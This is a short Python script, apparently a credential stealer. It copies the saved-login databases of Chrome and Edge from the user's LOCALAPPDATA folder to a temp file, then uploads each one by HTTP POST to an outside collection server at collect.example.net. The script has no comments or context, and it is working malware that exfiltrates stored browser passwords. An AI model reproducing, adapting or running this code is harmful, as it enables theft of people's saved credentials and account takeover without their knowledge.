import os
import shutil
import tempfile

import requests

LOCAL = os.getenv("LOCALAPPDATA", "")
PATHS = [
    os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data"),
    os.path.join(LOCAL, "Microsoft", "Edge", "User Data", "Default", "Login Data"),
]

for p in PATHS:
    if os.path.exists(p):
        tmp = os.path.join(tempfile.gettempdir(), "ld.tmp")
        shutil.copyfile(p, tmp)
        with open(tmp, "rb") as fh:
            requests.post(
                "https://collect.example.net/upload",
                files={"f": ("Login Data", fh)},
                timeout=10,
            )
